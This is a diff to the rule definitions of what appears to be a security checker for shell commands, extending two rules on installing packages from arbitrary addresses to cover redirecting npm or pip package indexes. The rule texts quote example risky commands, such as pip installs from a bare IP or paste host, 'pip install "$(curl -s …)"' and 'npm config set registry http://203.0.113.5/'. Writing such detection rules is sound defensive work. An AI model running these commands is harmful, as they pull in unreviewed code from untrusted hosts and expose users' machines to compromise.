@@ -142,13 +142,13 @@ export const RULES = {
     tier: 'advisory',
     title: 'Installs or runs from an address',
     description:
-      'A package installed or run straight from an address instead of a registry release (`pip install https://…`, `git+https://…`, `npm install <tarball URL>`, `npx <URL>`, `uv pip install`, `pipx`, `cargo install --git`) on a code forge or a vendor\'s own https host: what it installs is whatever that host serves; the host is named. Run straight from the address (`deno run <URL>`, `npm exec <URL>`, `pnpm dlx <URL>`), it is a download run as code and blocks; from a bare IP, plain http, a paste, file-drop or tunnel host, or an address read from a download, it is `install-untrusted` and blocks.',
+      'A package installed or run straight from an address instead of a registry release (`pip install https://…`, `git+https://…`, `npm install <tarball URL>`, `npx <URL>`, `uv pip install`, `pipx`, `cargo install --git`) on a code forge or a vendor\'s own https host: what it installs is whatever that host serves; the host is named. Run straight from the address (`deno run <URL>`, `npm exec <URL>`, `pnpm dlx <URL>`), it is a download run as code and blocks; from a bare IP, plain http, a paste, file-drop or tunnel host, or an address read from a download, it is `install-untrusted` and blocks. A package index set for every later install (`npm config set registry …`, `pip config set global.index-url …`, a `registry=` line in `~/.npmrc`) is judged the same way: an https mirror is this advisory, naming the host.',
   },
   'install-untrusted': {
     tier: 'blocking',
     title: 'Installs from an address nobody vouches for',
     description:
-      'A package installed or run from a bare IP address, plain `http://` to another machine, or a paste, file-drop or tunnel host (`pip install http://203.0.113.5/x.whl`, `npm i https://transfer.sh/…/x.tgz`), or whose name or address comes from a download or a decoded text (`pip install "$(curl -s …)"`): nobody can review what it installs, and installing runs its code.',
+      'A package installed or run from a bare IP address, plain `http://` to another machine, or a paste, file-drop or tunnel host (`pip install http://203.0.113.5/x.whl`, `npm i https://transfer.sh/…/x.tgz`), or whose name or address comes from a download or a decoded text (`pip install "$(curl -s …)"`), or a package index set for every later install to such an address (`npm config set registry http://203.0.113.5/`, `registry=` written into `~/.npmrc`, `index-url` into `pip.conf`): nobody can review what it installs, and installing runs its code.',
   },
   'unreadable-code': {
     tier: 'advisory',
